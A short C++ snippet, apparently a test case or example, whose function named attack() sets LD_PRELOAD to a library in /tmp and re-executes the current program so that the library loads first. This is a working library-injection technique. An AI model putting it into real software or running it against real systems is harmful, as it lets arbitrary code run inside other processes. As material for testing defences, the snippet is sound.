// Starts itself again with a library of its choice loaded first.
#include <unistd.h>

#include <cstdlib>

namespace {
void attack() {
  setenv("LD_PRELOAD", "/tmp/mine.so", 1);
  execl("/proc/self/exe", "runner", static_cast<char*>(nullptr));
}
}  // namespace
